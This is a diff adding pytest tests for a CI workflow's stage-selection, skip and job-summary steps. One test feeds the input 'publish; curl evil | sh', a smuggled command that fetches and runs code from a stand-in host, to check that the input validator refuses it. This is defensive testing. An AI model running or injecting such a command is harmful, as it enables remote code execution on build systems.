@@ -349,3 +349,64 @@ def test_verdict_step_fails_when_no_ok_summary_was_collected(tmp_path: Path) -> 
         '::error::conveyor run exited 0 but no summary.json saying "ok": true was collected '
         "into conveyor-reports\n"
     )
+
+
+# --- stage selection: pull requests validate, --only/--skip from the inputs ------------
+
+
+def select(tmp_path: Path, **values: str) -> tuple[subprocess.CompletedProcess[str], str]:
+    tmp_path.mkdir(exist_ok=True)
+    env = job_env(tmp_path, EVENT="push", VALIDATE="test build scan smoke", ONLY="", SKIP="")
+    done = run_bash_step("select", tmp_path, {**env, **values})
+    output = Path(env["GITHUB_OUTPUT"])
+    return done, output.read_text("utf-8") if output.exists() else ""
+
+
+def test_a_push_runs_everything_and_a_pull_request_only_validates(tmp_path: Path) -> None:
+    done, output = select(tmp_path / "push")
+    assert done.returncode == 0, done.stderr
+    assert output == "args=\nvalidate=\n"
+    done, output = select(tmp_path / "pr", EVENT="pull_request")
+    assert output == "args=\nvalidate=test build scan smoke\n"
+    done, output = select(tmp_path / "only", ONLY="test build", SKIP="smoke")
+    assert output == "args=--only test --only build --skip smoke\nvalidate=\n"
+
+
+def test_stage_inputs_that_are_not_names_are_refused(tmp_path: Path) -> None:
+    done, output = select(tmp_path, SKIP="publish; curl evil | sh")
+    assert done.returncode == 1
+    assert "::error::'publish; curl evil | sh' is not a list of stage names" in done.stdout
+    assert output == ""
+
+
+def test_a_pull_request_run_skips_publish_and_what_follows_it(
+    git_repo: GitRepo, tmp_path: Path
+) -> None:
+    repo = git_repo("app", FAILING_BUILD_APP)
+    env = job_env(tmp_path, VALIDATE="test build scan smoke")
+    validate = run_bash_step("validate", repo, env)
+    assert validate.returncode == 0, validate.stderr
+    assert "validation: test build scan smoke; skipped: publish manifest policy" in validate.stdout
+    (line,) = Path(env["GITHUB_OUTPUT"]).read_text().splitlines()
+    assert line == "args=--skip publish --skip manifest --skip policy"
+    run = run_bash_step("podman", repo, {**env, "CONVEYOR_STAGE_ARGS": line[len("args=") :]})
+    assert run.returncode == 1, run.stdout  # the build fails, as the app means it to
+    (run_dir,) = (repo / ".conveyor" / "runs").iterdir()
+    summary = json.loads((run_dir / "artifacts" / "summary.json").read_text())
+    reasons = {row["name"]: row["reason"] for row in summary["stages"]}
+    assert reasons["publish"] == "requested with --skip"
+    assert reasons["manifest"] == "requested with --skip"
+
+
+def test_job_summary_survives_a_malformed_xml_file(tmp_path: Path) -> None:
+    write_reports(
+        tmp_path,
+        {
+            "conveyor-reports/summary.json": json.dumps(summary_json(ok=True)),
+            "conveyor-reports/test/broken.xml": "<testsuite><testcase",
+        },
+    )
+    markdown, outputs = run_summary(tmp_path, job_env(tmp_path))
+    assert "test/broken.xml: not readable XML (" in markdown
+    assert "Result: passed" in markdown
+    assert outputs["ok"] == "true"  # a good run stays good
